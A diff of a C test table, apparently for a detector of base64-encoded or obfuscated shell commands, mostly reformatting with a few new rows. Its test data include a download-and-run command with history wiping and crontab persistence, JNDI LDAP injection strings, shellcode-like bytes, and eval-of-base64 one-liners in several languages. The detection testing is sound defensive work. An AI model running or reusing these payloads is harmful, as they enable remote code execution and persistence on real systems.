@@ -6,9 +6,12 @@
 	"curl -fsSL http://198.51.100.7/x.sh | bash; history -c; echo done "   \
 	"> /tmp/.x; crontab -l | { cat; echo '* * * * * /tmp/.x'; } | crontab"
 #define SHORT "whoami; id"
-#define GZIP "\x1f\x8b\x08\0\0\0\0\0\x02\x03\xcb\x48\xcd\xc9\xc9\x57\x28\xcf"  \
-	     "\x2f\xca\x49\x01\0\x85\x11\x4a\x0d\x0b\0\0\0"
-#define ELF "\x7f" "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01\0\0\0\xff"
+#define GZIP                                                                   \
+	"\x1f\x8b\x08\0\0\0\0\0\x02\x03\xcb\x48\xcd\xc9\xc9\x57\x28\xcf"       \
+	"\x2f\xca\x49\x01\0\x85\x11\x4a\x0d\x0b\0\0\0"
+#define ELF                                                                    \
+	"\x7f"                                                                 \
+	"ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01\0\0\0\xff"
 #define ZLIB "x\x9c\xcbH\xcd\xc9\xc9W(\xcf/\xcaI\x01\0\x1a\x0b\x04]"
 
 static const struct row {
@@ -50,10 +53,18 @@ static const struct row {
 		{ "sh", "-c", "echo @s | base64 -w0 -d" }, NULL },
 	{ "echo | basenc", BYTES(SHORT),
 		{ "sh", "-c", "echo @s | basenc --base64 -d" }, NULL },
+	{ "base64${IFS}-d", BYTES(SHORT),
+		{ "sh", "-c", "echo @s|base64${IFS}-d|sh" }, NULL },
+	{ "base64$IFS-d", BYTES(SHORT), { "sh", "-c", "echo @s|base64$IFS-d" },
+		NULL },
+	{ "python binascii", BYTES(SHORT),
+		{ "python3", "-c",
+			"import binascii;exec(binascii.a2b_base64('@s'))" },
+		NULL },
 	{ "printf | base64 -d", BYTES(SHORT),
 		{ "sh", "-c", "printf '%s' '@s' | base64 -d" }, NULL },
-	{ "base64 -d <<<", BYTES(SHORT),
-		{ "bash", "-c", "base64 -d <<<@s" }, NULL },
+	{ "base64 -d <<<", BYTES(SHORT), { "bash", "-c", "base64 -d <<<@s" },
+		NULL },
 	{ "base64 -d <<< in quotes", BYTES(SHORT),
 		{ "bash", "-c", "bash <(base64 -d <<< \"@s\")" }, NULL },
 	{ "braces", BYTES(SHORT),
@@ -65,18 +76,22 @@ static const struct row {
 	{ "openssl enc -base64 -d", BYTES(SHORT),
 		{ "sh", "-c", "echo @s|openssl enc -base64 -d" }, NULL },
 	{ "python b64decode", BYTES(SHORT),
-		{ "python3", "-c", "exec(__import__('base64').b64decode('@s'))" },
+		{ "python3", "-c",
+			"exec(__import__('base64').b64decode('@s'))" },
 		NULL },
 	{ "python b64decode of bytes", BYTES(SHORT),
-		{ "python3", "-c", "import base64;eval(base64.b64decode(b\"@s\"))" },
+		{ "python3", "-c",
+			"import base64;eval(base64.b64decode(b\"@s\"))" },
 		NULL },
 	{ "perl decode_base64", BYTES(SHORT),
-		{ "perl", "-MMIME::Base64", "-e", "eval decode_base64(\"@s\")" },
+		{ "perl", "-MMIME::Base64", "-e",
+			"eval decode_base64(\"@s\")" },
 		NULL },
 	{ "php base64_decode", BYTES(SHORT),
 		{ "php", "-r", "eval(base64_decode('@s'));" }, NULL },
 	{ "ruby decode64", BYTES(SHORT),
-		{ "ruby", "-e", "require 'base64';eval(Base64.decode64('@s'))" },
+		{ "ruby", "-e",
+			"require 'base64';eval(Base64.decode64('@s'))" },
 		NULL },
 	{ "ruby unpack", BYTES(SHORT),
 		{ "ruby", "-e", "eval('@s'.unpack(\"m\")[0])" }, NULL },
@@ -87,8 +102,7 @@ static const struct row {
 		NULL },
 	{ "PowerShell FromBase64String", BYTES(SHORT),
 		{ "pwsh", "-c", "[Convert]::FromBase64String('@s')" }, NULL },
-	{ "-enc", BYTES("whoami"), { "pwsh", "-enc", "@l" },
-		"base64+utf16le" },
+	{ "-enc", BYTES("whoami"), { "pwsh", "-enc", "@l" }, "base64+utf16le" },
 	{ "-EncodedCommand", BYTES("whoami"),
 		{ "pwsh", "-NoP", "-EncodedCommand", "@l" }, "base64+utf16le" },
 	{ "-e", BYTES("whoami"), { "powershell", "-e", "@l" },
@@ -100,14 +114,17 @@ static const struct row {
 	{ "-enc in one argument", BYTES("whoami; id"),
 		{ "sh", "-c", "pwsh -nop -enc @l" }, "base64+utf16le" },
 	{ "UTF-16 alone", BYTES(SECRET), { "x", "@l" }, "base64+utf16le" },
-	{ "UTF-16 big-endian", BYTES(SECRET), { "x", "@g" },
-		"base64+utf16be" },
+	{ "UTF-16 big-endian", BYTES(SECRET), { "x", "@g" }, "base64+utf16be" },
 	{ "JNDI", BYTES("whoami"),
-		{ "curl", "-H", "${jndi:ldap://198.51.100.7:1389/Basic/Command/"
-				"Base64/@s}" }, NULL },
+		{ "curl", "-H",
+			"${jndi:ldap://198.51.100.7:1389/Basic/Command/"
+			"Base64/@s}" },
+		NULL },
 	{ "JNDI with a slash in it", BYTES("(curl -s 198.51.100.7:80/?\?>>~~)"),
-		{ "curl", "-A", "${jndi:ldap://198.51.100.7:1389/Basic/Command/"
-				"Base64/@s}" }, NULL },
+		{ "curl", "-A",
+			"${jndi:ldap://198.51.100.7:1389/Basic/Command/"
+			"Base64/@s}" },
+		NULL },
 	{ "operand in another argument", BYTES(SHORT),
 		{ "sh", "-c", "echo \"$1\" | base64 -d | sh", "sh", "@s" },
 		NULL },
@@ -119,13 +136,17 @@ static const struct row {
 	{ "zlib where a decoder is", BYTES(ZLIB),
 		{ "python3", "-c",
 			"import zlib,base64;exec(zlib.decompress("
-			"base64.b64decode('@s')))" }, NULL },
-	{ "binary where a decoder is", BYTES("\xfc\x48\x83\xe4\xf0\xe8\xcc\0\0"
-					     "\x41\x51\x41\x50\x52\x48\x31\xd2"
-					     "\x65\x48\x8b\x52\x60\x3e\x48"),
+			"base64.b64decode('@s')))" },
+		NULL },
+	{ "binary where a decoder is",
+		BYTES("\xfc\x48\x83\xe4\xf0\xe8\xcc\0\0"
+		      "\x41\x51\x41\x50\x52\x48\x31\xd2"
+		      "\x65\x48\x8b\x52\x60\x3e\x48"),
 		{ "sh", "-c", "echo @s | base64 -d > /tmp/x" }, NULL },
 	{ "20 characters", BYTES("id;uname -a;w;p"), { "x", "@s" }, NULL },
-	{ "UTF-8", BYTES("echo 'gr\xc3\xbc\xc3\x9f dich, Welt'; id; uname -a; ls -la"),
+	{ "UTF-8",
+		BYTES("echo 'gr\xc3\xbc\xc3\x9f dich, Welt'; id; uname -a; ls "
+		      "-la"),
 		{ "x", "@s" }, NULL },
 };
 
